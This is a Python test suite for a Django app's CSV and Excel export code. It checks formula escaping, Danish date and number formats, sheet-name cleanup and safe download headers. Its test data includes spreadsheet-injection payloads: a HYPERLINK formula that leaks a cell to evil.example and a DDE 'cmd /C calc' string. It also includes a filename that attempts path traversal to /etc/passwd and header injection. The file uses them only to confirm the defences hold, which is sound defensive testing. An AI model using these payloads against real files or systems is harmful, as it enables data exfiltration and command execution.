from __future__ import annotations

import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.utils import translation

from mentornet.core.exports import (
    content_disposition,
    escape_formula,
    export_response,
    safe_sheet_title,
    write_csv,
    write_xlsx,
)

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
    "+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "-5",
    "＝1+1",  # a full-width equals sign
]
HEADERS = ["Navn", "By", "Født", "Aktiv", "Timer"]
ROWS: list[list[Any]] = [
    ["Søren Ærø", "Århus", date(1987, 4, 3), True, 2],
    ["Åse Øster", None, None, False, 1.5],
]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def _csv_lines(content: bytes) -> list[str]:
    assert content.startswith(b"\xef\xbb\xbf")
    return content[3:].decode("utf-8").split("\r\n")


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_a_spreadsheet_could_run_as_a_formula_gets_a_leading_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["Søren", "", "a=b", "1+1", "'quoted", " text", -5, 1.5, None, date(2020, 1, 1)])
def test_other_values_are_left_alone(value):
    assert escape_formula(value) is value


def test_a_csv_file_opens_in_danish_excel():
    lines = _csv_lines(write_csv(HEADERS, ROWS))
    assert lines == [
        "Navn;By;Født;Aktiv;Timer",
        "Søren Ærø;Århus;03-04-1987;Yes;2",
        "Åse Øster;;;No;1,5",
        "",
    ]


def test_csv_yes_and_no_follow_the_language():
    with translation.override("da"):
        assert _csv_lines(write_csv(["Aktiv"], [[True], [False]]))[1:3] == ["Ja", "Nej"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_csv_cell_cannot_start_a_formula(text):
    content = write_csv(["Navn"], [[text]])
    cell = _csv_lines(content)[1].removeprefix('"')
    assert cell.startswith("'")
    assert ("'" + text).replace('"', '""') in content.decode("utf-8-sig")


def test_a_csv_keeps_real_numbers_as_numbers():
    assert _csv_lines(write_csv(["Tal"], [[-5], [Decimal("-2.50")]]))[1:3] == ["-5", "-2,50"]


def test_csv_text_is_plain_data_with_no_html_escaping():
    content = write_csv(["Note"], [['<script>alert("hej")</script> & co; ærlig']])
    assert _csv_lines(content)[1] == '"<script>alert(""hej"")</script> & co; ærlig"'


def test_csv_datetimes_are_shown_in_danish_time():
    content = write_csv(["Oprettet"], [[datetime(2025, 1, 15, 12, 30, tzinfo=UTC)]])
    assert _csv_lines(content)[1] == "15-01-2025 13:30"


def test_a_row_with_the_wrong_number_of_cells_is_a_programming_error():
    with pytest.raises(ValueError, match="A row has 1 cells, but there are 2 headers"):
        write_csv(["a", "b"], [["only one"]])


def test_an_excel_file_has_a_bold_header_real_dates_and_danish_letters():
    sheet = _sheet(write_xlsx(HEADERS, ROWS, sheet_title="Mentorer i København"))
    assert sheet.title == "Mentorer i København"
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.b for cell in sheet[1])
    born = sheet["C2"]
    assert (born.value, born.is_date, born.number_format) == (datetime(1987, 4, 3), True, "DD-MM-YYYY")  # noqa: DTZ001
    assert [cell.value for cell in sheet[2]][:2] == ["Søren Ærø", "Århus"]
    assert [sheet["D2"].value, sheet["D3"].value, sheet["E3"].value, sheet["B3"].value] == ["Yes", "No", 1.5, None]


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_excel_cell_cannot_start_a_formula(text):
    cell = _sheet(write_xlsx(["Navn"], [[text]], sheet_title="x"))["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a stored carriage return back as a line feed


def test_excel_text_is_plain_data_and_loses_only_control_characters_xml_cannot_hold():
    sheet = _sheet(write_xlsx(["Note"], [["<script>alert(1)</script>"], ["linje\x0bto\x00"]], sheet_title="x"))
    assert [sheet["A2"].value, sheet["A3"].value] == ["<script>alert(1)</script>", "linjeto"]


def test_excel_datetimes_are_naive_danish_time():
    sheet = _sheet(write_xlsx(["Oprettet"], [[datetime(2025, 7, 1, 8, 0, tzinfo=UTC)]], sheet_title="x"))
    assert sheet["A2"].value == datetime(2025, 7, 1, 10, 0)  # noqa: DTZ001 (Excel has no time zones)


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Mentorer [København]: 2025/26?", "Mentorer København 2025 26"),
        ("En meget lang titel på et ark som Excel ikke tåler", "En meget lang titel på et ark s"),
        ("'citeret'", "citeret"),
        ("*?:", "Sheet1"),
    ],
)
def test_a_sheet_title_is_made_acceptable_to_excel(title, expected):
    assert safe_sheet_title(title) == expected
    assert len(expected) <= 31


def test_a_csv_response_is_a_download_that_is_never_cached():
    response = export_response("csv", "Mentorer i København", HEADERS, ROWS, sheet_title="Mentorer")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"Mentorer-i-Koebenhavn.csv\"; filename*=UTF-8''Mentorer%20i%20K%C3%B8benhavn.csv"
    )
    assert response.content == write_csv(HEADERS, ROWS)


def test_an_excel_response_is_a_download_that_is_never_cached():
    response = export_response("xlsx", "ærø", HEADERS, iter(ROWS), sheet_title="Mentorer")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == "attachment; filename=\"aeroe.xlsx\"; filename*=UTF-8''%C3%A6r%C3%B8.xlsx"
    assert _sheet(response.content)["A2"].value == "Søren Ærø"


@pytest.mark.parametrize(
    ("stem", "ascii_name", "utf8_name"),
    [
        ('../../etc/"passwd"\r\nX-Evil: 1', "etc-passwd-X-Evil-1.csv", "etc%20passwd%20X-Evil%201.csv"),
        ("Ærø Å", "Aeroe-Aa.csv", "%C3%86r%C3%B8%20%C3%85.csv"),
        ("", "export.csv", "export.csv"),
        ("Zoë; 数据", "Zoe.csv", "Zo%C3%AB%3B%20%E6%95%B0%E6%8D%AE.csv"),
    ],
)
def test_a_download_name_cannot_break_the_header_or_leave_the_folder(stem, ascii_name, utf8_name):
    assert content_disposition(stem, "csv") == f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{utf8_name}"


def test_an_unknown_format_is_a_programming_error():
    with pytest.raises(ValueError, match="Unknown export format 'pdf'"):
        export_response("pdf", "x", HEADERS, ROWS, sheet_title="x")
